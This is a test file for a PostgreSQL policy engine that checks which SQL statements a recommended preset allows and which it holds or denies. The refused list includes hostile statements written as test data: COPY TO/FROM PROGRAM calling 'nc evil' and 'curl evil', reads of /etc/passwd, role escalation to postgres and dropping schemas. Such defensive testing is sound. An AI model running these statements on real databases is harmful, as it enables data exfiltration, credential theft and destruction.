/** What the preset says to real SQL, read by the real analyzer over a captured catalog. */
import t from 'tap'
import { Analyzer } from '../../../protocols/postgres/sql/analyzer.ts'
import { Policy } from '../../../src/policy/policy.ts'
import { catalogOf, namesOf } from '../../support/catalog-fixture.ts'

const catalog = catalogOf(
  {
    'public.orders': ['id int4', 'total numeric', 'note text'],
    'public.customers': ['id int4', 'email text'],
  },
  {
    views: { 'public.contacts': [['email text'], 'SELECT email FROM public.customers'] },
    functions: {
      'public.twice': { language: 'sql', source: 'SELECT $1 * 2' },
      'public.wipe': {
        language: 'sql',
        volatility: 'volatile',
        source: 'DELETE FROM public.orders',
      },
      'public.dark': { language: 'plpgsql', volatility: 'volatile', source: 'BEGIN END' },
      'public.uuid_generate_v4': { language: 'c', volatility: 'volatile' },
    },
  },
)

const policy = new Policy({
  mode: 'enforce',
  preset: 'recommended',
  default: 'allow',
  rules: [],
  approvers: { any: [{ group: 'reviewers', count: 1 }] },
})

const identity = { name: 'ann', kind: 'person', groups: [], owner: undefined } as const

await Analyzer.load()
const analyzer = new Analyzer()

/** `hold unfiltered-write`, `allow`. */
function verdictOn(text: string): string {
  const analysis = analyzer.analyze(text, namesOf(catalog))
  const verdict = policy.evaluate(analysis, {
    identity,
    database: 'shop',
    environment: 'production',
    application: undefined,
    transaction: 'idle',
    maskedReads: [],
    maskedMoves: analysis.moves.filter(({ from }) => from.column === 'email'),
    now: new Date(),
  })
  return verdict.kind === 'allow' ? 'allow' : `${verdict.kind} ${verdict.rules.join(' ')}`
}

const allowed: readonly string[] = [
  '',
  ';',
  'SELECT 1',
  'SELECT * FROM orders WHERE id = 1',
  'SELECT email FROM contacts',
  'SELECT public.twice(2), now(), random(), version(), current_user',
  'SELECT uuid_generate_v4()',
  'INSERT INTO orders VALUES (1, 2, $$x$$) RETURNING id',
  "INSERT INTO orders VALUES (1) ON CONFLICT (id) DO UPDATE SET note = 'x'",
  'UPDATE orders SET total = 1 WHERE id = 2',
  'DELETE FROM orders WHERE id = 2',
  'SELECT * FROM orders WHERE id = 1 FOR UPDATE',
  'COPY orders TO STDOUT',
  'COPY (SELECT * FROM orders) TO STDOUT (FORMAT binary)',
  'COPY orders FROM STDIN',
  'CREATE TABLE t (id int PRIMARY KEY, note text DEFAULT now()::text)',
  'CREATE TABLE t AS SELECT id FROM orders',
  'CREATE INDEX ON orders (total)',
  'CREATE VIEW v AS SELECT id FROM orders',
  'ALTER TABLE orders ADD COLUMN extra int',
  'ALTER TABLE orders ADD CONSTRAINT positive CHECK (total > 0)',
  'ALTER TABLE orders ALTER COLUMN note SET DEFAULT 1',
  "COMMENT ON TABLE orders IS 'what was bought'",
  'CREATE TEMP TABLE s AS SELECT id FROM orders',
  'EXPLAIN DELETE FROM orders',
  'PREPARE p AS SELECT 1',
  'DEALLOCATE ALL',
  'DECLARE c CURSOR FOR SELECT * FROM orders',
  'LISTEN a',
  'NOTIFY a',
  'VACUUM orders',
  'ANALYZE',
  // What clients send at start or at the end of a session.
  'BEGIN',
  'BEGIN ISOLATION LEVEL REPEATABLE READ, READ ONLY',
  'SET TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY',
  'SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY',
  'SAVEPOINT a',
  'ROLLBACK TO a',
  'COMMIT',
  'SHOW ALL',
  'SHOW TRANSACTION ISOLATION LEVEL',
  'DISCARD ALL',
  'RESET ALL',
  "SET application_name = 'x'",
  'SET search_path TO public',
  'SET extra_float_digits = 3',
  'SET DATESTYLE = ISO',
  'SET INTERVALSTYLE = POSTGRES',
  'SET synchronize_seqscans TO off',
  'SET statement_timeout = 0',
  'SET lock_timeout = 0',
  'SET idle_in_transaction_session_timeout = 0',
  'SET transaction_timeout = 0',
  'SET row_security = off',
  "SET TIME ZONE 'UTC'",
  "SET SESSION timezone TO 'UTC'",
  "SET client_min_messages TO 'warning'",
  "SET client_encoding TO 'UTF8'",
  "SET NAMES 'utf-8'",
  'SET standard_conforming_strings = on',
  "SELECT set_config('client_encoding', 'UTF8', false)",
  "SELECT pg_catalog.set_config('search_path', '', false)",
  // pg_dump, where the server may not have the setting.
  "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'",
  // pg_dump with several jobs: a snapshot shows others nothing that they may not see.
  'SELECT pg_catalog.pg_export_snapshot()',
  "SET TRANSACTION SNAPSHOT '00000003-0000001B-1'",
  'SELECT pg_catalog.pg_is_in_recovery()',
  'LOCK TABLE public.orders IN ACCESS SHARE MODE',
  'SELECT pg_advisory_lock(1)',
]

const refused: readonly (readonly [string, string])[] = [
  ['DELETE FROM orders', 'hold unfiltered-write'],
  ['DELETE FROM orders WHERE true', 'hold unfiltered-write'],
  ['UPDATE orders SET total = 0', 'hold unfiltered-write'],
  ['WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone', 'hold unfiltered-write'],
  ['SELECT 1; DELETE FROM orders', 'hold unfiltered-write'],
  ['EXPLAIN ANALYZE DELETE FROM orders', 'hold unfiltered-write'],
  ['SELECT wipe()', 'hold unfiltered-write'],
  ['TRUNCATE orders', 'hold truncate'],
  ['DROP TABLE orders', 'hold drop'],
  ['DROP SCHEMA public CASCADE', 'hold drop'],
  ['ALTER TABLE orders DROP COLUMN note', 'hold alter-loses-data'],
  ['ALTER TABLE orders ALTER COLUMN note TYPE varchar(1)', 'hold alter-loses-data'],
  ['ALTER TABLE orders DISABLE TRIGGER ALL', 'hold alter-loses-data'],
  ['ALTER TABLE orders RENAME TO o', 'hold rename'],
  ['ALTER TABLE customers RENAME COLUMN email TO e', 'hold rename'],
  ['ALTER TABLE orders SET SCHEMA other', 'hold rename'],
  ['CREATE OR REPLACE VIEW contacts AS SELECT 1', 'hold replaced-view'],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$', 'hold new-code'],
  ['CREATE EXTENSION dblink', 'hold new-code'],
  ['CREATE TABLE copy AS SELECT email FROM customers', 'hold masked-data-moved'],
  ['INSERT INTO orders (note) SELECT email FROM customers', 'hold masked-data-moved'],
  ['GRANT SELECT ON orders TO public', 'hold privileges'],
  ['REVOKE ALL ON orders FROM bob', 'hold privileges'],
  ['ALTER TABLE orders OWNER TO bob', 'hold privileges'],
  ['CREATE POLICY p ON orders USING (true)', 'hold row-security'],
  ['CREATE ROLE r SUPERUSER', 'hold role-change'],
  ["ALTER ROLE r PASSWORD 'x'", 'hold role-change'],
  ['SET ROLE postgres', 'hold role-change'],
  ['SET SESSION AUTHORIZATION postgres', 'hold role-change'],
  ['SET session_replication_role = replica', 'hold weakening-setting'],
  ["SET log_statement = 'none'", 'hold weakening-setting'],
  ["SET app.tenant = '7'", 'hold weakening-setting'],
  ['ALTER SYSTEM SET work_mem = 1', 'hold lasting-setting'],
  ["ALTER ROLE r SET search_path = ''", 'hold lasting-setting'],
  ["ALTER DATABASE shop SET work_mem = '1MB'", 'hold lasting-setting'],
  ["SET client_encoding TO 'LATIN1'", 'deny client-encoding'],
  ["SET LOCAL client_encoding TO 'SJIS'", 'deny client-encoding'],
  ["SELECT set_config('client_encoding', 'GBK', false)", 'deny client-encoding'],
  ["SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'role'", 'hold role-change'],
  ["SELECT set_config(name, 'x', false) FROM pg_settings", 'deny client-encoding'],
  [
    "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name <> 'work_mem'",
    'deny client-encoding',
  ],
  [
    "SELECT set_config(name, 'x', false) FROM pg_settings s(a, name) WHERE name = 'work_mem'",
    'deny client-encoding',
  ],
  [
    "SELECT set_config(name, 'x', false) FROM pg_settings, pg_roles WHERE name = 'work_mem'",
    'deny client-encoding',
  ],
  [
    "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'work_mem' OR true",
    'deny client-encoding',
  ],
  [
    "WITH pg_settings AS (SELECT 'role' AS name) SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'work_mem'",
    'deny client-encoding',
  ],
  [
    "SELECT set_config(setting, 'x', false) FROM pg_settings WHERE name = 'work_mem'",
    'deny client-encoding',
  ],
  ['SET standard_conforming_strings = off', 'deny string-literals'],
  ["COPY orders TO '/tmp/x'", 'hold server-file-write'],
  ["COPY orders TO PROGRAM 'nc evil 1'", 'hold server-program'],
  ["COPY orders FROM PROGRAM 'curl evil'", 'hold server-program'],
  ["COPY orders FROM '/etc/passwd'", 'deny server-file-read'],
  ["SELECT pg_read_file('/etc/passwd')", 'deny server-file-read'],
  ["SELECT pg_ls_dir('/')", 'deny server-file-read'],
  ["SELECT lo_import('/etc/passwd')", 'deny server-file-read'],
  ["SELECT lo_export(1, '/tmp/x')", 'hold large-objects'],
  ['SELECT lo_get(1)', 'hold large-objects'],
  ["LOAD 'x'", 'hold server-file-write'],
  ["SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", 'deny replication'],
  ['CREATE PUBLICATION p FOR TABLE orders', 'hold outside-world'],
  ['SELECT * FROM pg_stats', 'hold revealing-catalogs'],
  ['SELECT query FROM pg_stat_activity', 'hold revealing-catalogs'],
  ['SELECT pg_terminate_backend(1)', 'hold server-control'],
  ['DO $$ BEGIN END $$', 'hold dynamic-code'],
  ['SELECT dark()', 'hold dynamic-code'],
  ["SELECT query_to_xml('SELECT 1', true, true, '')", 'hold dynamic-code'],
  ['SELECT nowhere()', 'hold unknown-function'],
  ['SELEC 1', 'hold unreadable'],
  ['EXECUTE nothing', 'hold unreadable'],
  ['FETCH ALL FROM nothing', 'hold unreadable'],
]

t.test('the preset lets pass what does no harm', async t => {
  for (const text of allowed) t.equal(verdictOn(text), 'allow', text)
})

t.test('the preset holds or denies the rest, and names the rule', async t => {
  for (const [text, expected] of refused) {
    const [kind, rule = ''] = expected.split(' ')
    const verdict = verdictOn(text).split(' ')
    t.strictSame(
      [verdict[0], verdict.includes(rule)],
      [kind, true],
      `${text}: ${verdict.join(' ')}`,
    )
  }
})
